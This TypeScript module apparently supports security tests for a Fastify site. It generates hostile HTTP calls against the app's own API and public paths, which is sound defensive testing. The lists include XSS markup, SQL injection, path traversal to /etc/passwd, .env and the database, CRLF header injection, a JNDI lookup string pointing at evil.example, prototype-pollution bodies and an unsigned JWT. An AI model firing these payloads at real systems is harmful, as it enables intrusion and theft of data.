import type { InjectOptions } from 'fastify';

/** A marker in requests. No response may contain it where it would be parsed as markup or as a header. */
export const mark = 'kwaad4711';
const markup = `"><script>${mark}()</script><img src=x onerror=${mark}()>`;

/** A hostile call, and which part of it is hostile. */
export interface Attack {
  readonly kind: 'address' | 'query' | 'body' | 'format' | 'headers';
  readonly call: InjectOptions;
}

/** The parts of an OpenAPI operation from which calls are built. */
export interface Operation {
  readonly parameters?: readonly { readonly name: string; readonly in: string }[];
  readonly requestBody?: { readonly content: Readonly<Record<string, { readonly schema?: Schema }>> };
}
export interface Schema {
  readonly properties?: Readonly<Record<string, unknown>>;
  readonly $ref?: string;
}

const hostileTexts: readonly string[] = [
  markup,
  "' or 1=1; drop table pages; --",
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  `line\r\nx-${mark}: 1`,
  'nul\u0000byte',
  '\ud800 alone',
  '$\u007bjndi:ldap://evil.example/a}',
  '{{7*7}}',
  'javascript:alert(1)',
  '//evil.example',
  '__proto__',
  'x'.repeat(12_000),
];

const hostileValues: readonly unknown[] = [
  null,
  true,
  -1,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  [],
  {},
  [[[[[[]]]]]],
  { __proto__: null, constructor: { prototype: { admin: true } } },
  ...hostileTexts,
];

/** Whole bodies, sent unchanged, that the parser rather than a schema has to refuse. */
const hostileBodies: readonly string[] = [
  '',
  'null',
  '[]',
  '"text"',
  '42',
  '{',
  '{"a":1,}',
  '{"a":1}{"b":2}',
  '\ufeff{}',
  '{"__proto__":{"role":"owner"},"constructor":{"prototype":{"role":"owner"}}}',
  `${'['.repeat(5000)}${']'.repeat(5000)}`,
  `${'{"a":'.repeat(3000)}1${'}'.repeat(3000)}`,
  `{"${'k'.repeat(100_000)}":1}`,
  `{"a":"${'x'.repeat(3_000_000)}"}`,
  `{${Array.from({ length: 5000 }, (_, index) => `"field${index}":1`).join()}}`,
  '{"a":1e999999}',
  '{"a":"\\ud800"}',
];

const hostileFormats: readonly Readonly<Record<string, string>>[] = [
  { 'content-type': 'text/plain' },
  { 'content-type': 'text/html' },
  { 'content-type': 'application/xml' },
  { 'content-type': 'application/x-www-form-urlencoded' },
  { 'content-type': 'multipart/form-data' },
  { 'content-type': 'multipart/form-data; boundary=x' },
  { 'content-type': 'application/json; charset=utf-16' },
  { 'content-type': `application/json; ${mark}` },
  { 'content-type': 'application/json', 'content-encoding': 'gzip' },
];

const hostileHeaders: readonly Readonly<Record<string, string>>[] = [
  { 'if-match': '*' },
  { 'if-match': `"${'x'.repeat(5000)}"` },
  { 'if-none-match': '"\\"' },
  { origin: 'https://evil.example' },
  { origin: 'null' },
  { host: 'evil.example' },
  { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https', 'x-forwarded-for': `${mark}, 1.1.1.1` },
  { cookie: `__proto__=1; vitrine=${mark}; =; ;;;` },
  { cookie: `${'a=b; '.repeat(1500)}` },
  { range: 'bytes=0-0,1-1,2-2,3-3,4-999999999999999999999' },
  { 'accept-language': `${'nl;q=0.1,'.repeat(800)}` },
  { 'accept-encoding': 'identity;q=0, *;q=0' },
  { accept: `${mark}/${mark}` },
  { 'x-http-method-override': 'DELETE' },
];
const hostileTokens = [
  'Bearer',
  'Bearer ',
  `Bearer ${'a'.repeat(9000)}`,
  'Bearer eyJhbGciOiJub25lIn0.e30.',
  'Basic YTpi',
];

/** Maximum number of fields, and of parameters, that are attacked per operation. */
const most = 6;

/**
 * Lists hostile calls of one operation, always the same ones. They attack its parameters, its fields, its
 * whole body, its format and its headers.
 *
 * @param path with its parameters filled in by existing items
 * @param fields names of the fields in its body
 */
export function listAttacks(
  method: string,
  path: string,
  template: string,
  { parameters = [], requestBody }: Operation,
  fields: readonly string[],
): Attack[] {
  const send = (call: InjectOptions): InjectOptions => ({ method: method as 'GET', url: path, ...call });
  const json = { 'content-type': 'application/json' };
  const inQuery = parameters.filter((parameter) => parameter.in === 'query').map(({ name }) => name);
  const takesJson = requestBody !== undefined && 'application/json' in requestBody.content;
  return [
    ...(template.includes('{')
      ? hostileTexts.map((text) =>
          createAttack('address', send({ url: fillTemplate(template, encode(text)) })),
        )
      : []),
    ...[...inQuery.slice(0, most), mark].flatMap((name) =>
      [markup, '-1', 'true', 'nul%00', '%ff%fe'].map((value) =>
        createAttack('query', send({ url: `${path}?${name}=${value === markup ? encode(markup) : value}` })),
      ),
    ),
    ...(takesJson
      ? [
          ...hostileBodies.map((payload) => createAttack('body', send({ payload, headers: json }))),
          ...fields
            .slice(0, most)
            .flatMap((field) =>
              hostileValues.map((value) =>
                createAttack('body', send({ payload: JSON.stringify({ [field]: value }), headers: json })),
              ),
            ),
        ]
      : []),
    ...(method === 'get' ? [] : hostileFormats).map((headers) =>
      createAttack('format', send({ payload: `a=${encode(markup)}`, headers })),
    ),
    ...hostileHeaders.map((headers) => createAttack('headers', send({ headers }))),
    ...hostileTokens.map((authorization) => createAttack('headers', send({ headers: { authorization } }))),
  ];
}

function createAttack(kind: Attack['kind'], call: InjectOptions): Attack {
  return { kind, call };
}

/** Replaces lone surrogates first, because `encodeURIComponent` throws on them. */
function encode(text: string): string {
  return encodeURIComponent(text.toWellFormed());
}

export function fillTemplate(template: string, value: string | ((name: string) => string)): string {
  return template.replace(/\{(\w+)\}/g, (_, name: string) =>
    typeof value === 'string' ? value : value(name),
  );
}

/** Paths of the public site that an attacker would probe. */
export const hostileAddresses: readonly string[] = [
  '/%2e%2e/%2e%2e/etc/passwd',
  '/..%2f..%2fetc%2fpasswd',
  '/..;/admin',
  '/%c0%ae%c0%ae/',
  '/%',
  '/%zz',
  '/%00',
  '/a%0d%0ax-kwaad4711:%201',
  '//evil.example',
  '//evil.example/%2e%2e',
  '/\\evil.example',
  '/%5cevil.example',
  '/%2f%2fevil.example',
  '/http://evil.example',
  '/javascript:alert(1)',
  '/over-ons/',
  '/over-ons//',
  '/OVER-ONS',
  '/en//over-ons',
  '/nl/over-ons',
  '/en/en/en',
  '/besloten',
  '/besloten?preview',
  '/besloten?at=1',
  '/besloten?password=wachtwoord',
  '/besloten.json',
  '/besloten/index.html',
  '/concept',
  '/concept?preview&version=draft',
  '/weg',
  `/${'a'.repeat(4000)}`,
  `/${'a/'.repeat(2000)}`,
  `/?${'a=b&'.repeat(4000)}`,
  `/?q=${encodeURIComponent(markup)}`,
  `/${encodeURIComponent(markup)}`,
  `/en/${encodeURIComponent(markup)}`,
  `/cases/${encodeURIComponent(markup)}`,
  `/search?q=${encodeURIComponent(markup)}`,
  `/zoeken?q=${encodeURIComponent(markup)}`,
  `/?at=${encodeURIComponent(markup)}`,
  '/?at=eyJhIjoxfQ.x',
  '/media/',
  '/media/..%2f..%2fsecret',
  '/media/0000000000000000/x.jpg',
  '/media/0000000000000000/x.jpg?w=1e9&q=-1&f=exe',
  '/media/0000000000000000/x.jpg?w=640&w=1024',
  '/decks/',
  '/decks/..%2f..%2fvitrine.db',
  '/assets/..%2f..%2fpackage.json',
  '/assets/%2e%2e/%2e%2e/package.json',
  '/frame/code?x=1',
  '/frame/..%2fcode',
  '/sw.js?x=%0d%0a',
  '/sitemap.xml?x=1',
  '/robots.txt/x',
  '/.env',
  '/.git/config',
  '/data/vitrine.db',
  '/secret',
  '/admin/%2e%2e/over-ons',
  `/admin/login?next=${encodeURIComponent('//evil.example')}`,
  `/admin/login?next=${encodeURIComponent('javascript:alert(1)')}`,
  '/api',
  '/api/',
  '/api//pages',
  '/api/%2e%2e/admin',
  '/api/pages/%2e%2e%2fadmin',
  '/healthz/..',
  '/constructor',
  '/__proto__',
  '/toString',
  '/hasOwnProperty',
];
